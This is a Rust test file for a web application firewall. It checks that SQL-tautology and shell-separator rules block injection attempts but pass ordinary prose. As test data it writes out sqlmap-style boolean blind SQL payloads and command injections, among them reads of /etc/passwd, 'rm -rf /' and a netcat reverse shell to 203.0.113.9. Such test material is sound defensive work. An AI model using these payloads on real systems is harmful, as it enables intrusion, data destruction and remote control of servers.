//! Injection context (issue 17, det-fp): the SQL tautology rules (942100's detector,
//! 942141) and the shell-separator rule (932100) fire where an injected condition or
//! command sits — the value's start, the original value alone before it, a closing
//! parenthesis or quote, a comment or SQL after it, a shell-shaped argument — and not
//! on prose that compares numbers or puts a command-like word after a semicolon.
//! Every benign case here was flagged by the rules before the change.

use crate::{Engine, EngineConfig, HttpRequest, RuleSet, Verdict};

fn engine() -> Engine {
    Engine::new(RuleSet::builtin().unwrap(), EngineConfig::default())
}

fn arg(value: &str) -> HttpRequest {
    let mut enc = String::new();
    for b in value.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.".contains(&b) {
            enc.push(char::from(b));
        } else {
            enc.push_str(&format!("%{b:02X}"));
        }
    }
    HttpRequest {
        method: "GET".into(),
        uri: format!("/search?q={enc}"),
        protocol: "HTTP/1.1".into(),
        headers: vec![("Host".into(), "shop.example".into())],
        body: Vec::new(),
        client_ip: None,
    }
}

fn fired(v: &Verdict, rule: u32) -> bool {
    v.findings.iter().any(|f| f.rule_id == rule)
}

fn assert_rule_fires(rule: u32, values: &[&str]) {
    let e = engine();
    for value in values {
        let v = e.inspect(&arg(value));
        assert!(
            v.blocked && fired(&v, rule),
            "{rule} silent on {value:?}: {v:?}"
        );
    }
}

fn assert_silent(rules: &[u32], values: &[&str]) {
    let e = engine();
    for value in values {
        let v = e.inspect(&arg(value));
        for rule in rules {
            assert!(!fired(&v, *rule), "{rule} fired on {value:?}: {v:?}");
        }
        assert!(!v.blocked, "blocked: {value:?}: {v:?}");
    }
}

#[test]
fn prose_comparing_numbers_is_not_a_tautology() {
    assert_silent(
        &[942100, 942141],
        &[
            "Price: 5 < 10 and 20 > 3, isn't it?",
            "Cost check: 5 < 10 and 20 > 3, right?",
            "If a = 3 and b = 4 then c = 5 (Pythagoras)",
            "Rooms 101 and 102 = booked, 103 or 104 = free",
            "Is 7 > 3 and 2 < 5? Yes, both are true statements",
            "3 or 4 > 2 people are coming",
            "lol 5 > 3 and 2 < 4 obviously",
            "Бюджет: 5 < 10 and 20 > 3, верно?",
        ],
    );
}

#[test]
fn appended_conditions_are_tautologies() {
    // sqlmap's boolean-based blind shapes (boolean_blind.xml with boundaries.xml).
    assert_rule_fires(
        942141,
        &[
            "1 AND 20>3",
            "-5226 OR 7135=7135",
            "34 OR NOT 5081=5081",
            "57) AND 4812=4812 AND (4812=4812",
            "185 AND 8715=8715-- XBbT",
            "abc' AND 3521=3521 AND 'x'='x",
            "(8612=8612)*9106",
        ],
    );
    assert_rule_fires(
        942100,
        &[
            "1 AND 20>3",
            "-9822 OR 5035=5035",
            "1 div 0 or 1=1",
            "search words AND 1=1-- x",
        ],
    );
}

#[test]
fn prose_with_shell_words_after_a_semicolon_is_not_a_command() {
    assert_silent(
        &[932100],
        &[
            "He said \"hello\" and then left; rm -rf is a command I never run",
            "brb; cat needs feeding",
            "I fed the pets this morning; cat was hungry, dog was not",
            "LGTM; rm the debug print before merging please",
            "Thanks for the update | more details will follow next week",
            "Our new office\ncat lovers welcome, dogs too",
            "Screen 15.6 in; cat-friendly fabric cover",
        ],
    );
}

#[test]
fn commands_after_a_separator_in_injection_context() {
    assert_rule_fires(
        932100,
        &[
            ";cat /etc/passwd",
            "127.0.0.1;cat /etc/passwd",
            "|id",
            "a|id",
            "\nid",
            "; rm -rf /",
            ";netstat -a;",
            "my notes; cat /etc/passwd",
            "my notes; sleep 10",
            "report.pdf | nc -e /bin/sh 203.0.113.9 4444",
            "x && whoami",
        ],
    );
}

/// The committed fixture (`scripts/gen-prose-injection-fixture.py`): every hard-benign
/// line passes and every attack line is blocked at paranoia 1.
#[test]
fn prose_vs_injection_fixture() {
    let text = include_str!("../tests/fixtures/prose-vs-injection.jsonl");
    let e = engine();
    let (mut attacks, mut benign) = (0, 0);
    for line in text.lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        let s = |k: &str| v[k].as_str().unwrap().to_string();
        let mut headers: Vec<(String, String)> = v["headers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| (h[0].as_str().unwrap().into(), h[1].as_str().unwrap().into()))
            .collect();
        let body = s("body").into_bytes();
        if !body.is_empty() {
            headers.push(("Content-Length".into(), body.len().to_string()));
        }
        let req = HttpRequest {
            method: s("method"),
            uri: s("uri"),
            protocol: s("version"),
            headers,
            body,
            client_ip: None,
        };
        let verdict = e.inspect(&req);
        if s("label") == "attack" {
            attacks += 1;
            assert!(verdict.blocked, "attack passed: {line}");
        } else {
            benign += 1;
            assert!(!verdict.blocked, "benign blocked: {line}: {verdict:?}");
        }
    }
    assert!(
        attacks >= 60 && benign >= 40,
        "{attacks} attacks, {benign} benign"
    );
}
